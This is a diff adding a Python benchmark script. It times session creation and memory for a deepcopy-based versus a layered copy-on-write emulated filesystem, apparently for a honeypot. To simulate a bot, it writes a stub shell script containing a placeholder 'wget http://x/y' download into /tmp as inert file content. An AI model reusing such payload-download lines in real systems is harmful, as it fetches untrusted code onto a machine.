@@ -0,0 +1,106 @@
+"""
+Benchmark: session creation time and per-session memory, deepcopy vs layered FS.
+
+Builds a synthetic ~10k-node image, then creates `--sessions` sessions the old
+way (deepcopy of the whole dict) and the new way (LayeredFS overlay on a
+shared frozen image), each doing a few writes like a typical bot. Also times
+lookups, directory listings and a recursive walk on the node store.
+
+    python bench_fs.py --nodes 10000 --sessions 200
+"""
+import argparse
+import time
+import tracemalloc
+from copy import deepcopy
+
+from fs_engine import LayeredFS, freeze_image
+
+
+def make_image(n_nodes: int) -> dict:
+    """Roughly distro-shaped tree: /usr/share/pkgN/fileM with small contents."""
+    fs = {"/": {"type": "dir", "children": ["usr", "tmp", "home"]},
+          "/usr": {"type": "dir", "children": ["share"]},
+          "/usr/share": {"type": "dir", "children": []},
+          "/tmp": {"type": "dir", "children": []},
+          "/home": {"type": "dir", "children": []}}
+    per_dir = 20
+    pkg = 0
+    while len(fs) < n_nodes:
+        d = f"/usr/share/pkg{pkg}"
+        fs["/usr/share"]["children"].append(f"pkg{pkg}")
+        fs[d] = {"type": "dir", "children": []}
+        for i in range(per_dir):
+            fs[d]["children"].append(f"file{i}")
+            fs[f"{d}/file{i}"] = {"type": "file", "content": f"# {d}/file{i}\n" + "x" * 64}
+        pkg += 1
+    return fs
+
+
+def touch_like_a_bot(fs, i: int, copy_on_write: bool):
+    # a handful of writes: drop a payload in /tmp, a dir in /home, delete one file
+    if copy_on_write:
+        fs.create(f"/tmp/payload{i}.sh", "file", "#!/bin/sh\nwget http://x/y\n")
+        fs.create(f"/home/u{i}", "dir")
+        fs.remove("/usr/share/pkg0/file0")
+        return
+    fs[f"/tmp/payload{i}.sh"] = {"type": "file", "content": "#!/bin/sh\nwget http://x/y\n"}
+    fs["/tmp"]["children"].append(f"payload{i}.sh")
+    fs[f"/home/u{i}"] = {"type": "dir", "children": []}
+    fs["/home"]["children"].append(f"u{i}")
+    fs.pop("/usr/share/pkg0/file0", None)
+    fs["/usr/share/pkg0"]["children"].remove("file0")
+
+
+def bench(name: str, make_session, n_sessions: int, copy_on_write: bool):
+    tracemalloc.start()
+    before = tracemalloc.get_traced_memory()[0]
+    sessions = []
+    t0 = time.perf_counter()
+    for _ in range(n_sessions):
+        sessions.append(make_session())
+    create_s = time.perf_counter() - t0
+    for i, fs in enumerate(sessions):
+        touch_like_a_bot(fs, i, copy_on_write)
+    mem = tracemalloc.get_traced_memory()[0] - before
+    tracemalloc.stop()
+    print(f"{name:<9} create={create_s / n_sessions * 1e6:10.1f} us/session   "
+          f"memory={mem / n_sessions / 1024:9.1f} KiB/session")
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--nodes", type=int, default=10000)
+    parser.add_argument("--sessions", type=int, default=200)
+    args = parser.parse_args()
+
+    image = make_image(args.nodes)
+    print(f"image: {len(image)} nodes, {args.sessions} sessions")
+
+    bench("deepcopy", lambda: deepcopy(image), args.sessions, copy_on_write=False)
+
+    t0 = time.perf_counter()
+    base = freeze_image(image)
+    print(f"freeze   once={(time.perf_counter() - t0) * 1000:.1f} ms (shared by all sessions)")
+    bench("layered", lambda: LayeredFS(base), args.sessions, copy_on_write=True)
+
+    fs = LayeredFS(base)
+    touch_like_a_bot(fs, 0, copy_on_write=True)
+    paths = list(image)
+    n = 100000
+    t0 = time.perf_counter()
+    for j in range(n):
+        fs.get(paths[j % len(paths)])
+    lookup = (time.perf_counter() - t0) / n
+    t0 = time.perf_counter()
+    for _ in range(1000):
+        list(fs.get("/usr/share").children)
+    listing = (time.perf_counter() - t0) / 1000
+    t0 = time.perf_counter()
+    walked = sum(1 for _ in fs.walk("/"))
+    walk = time.perf_counter() - t0
+    print(f"nodes    lookup={lookup * 1e9:.0f} ns   ls /usr/share={listing * 1e6:.1f} us   "
+          f"walk={walk * 1000:.1f} ms ({walked} nodes)")
+
+
+if __name__ == "__main__":
+    main()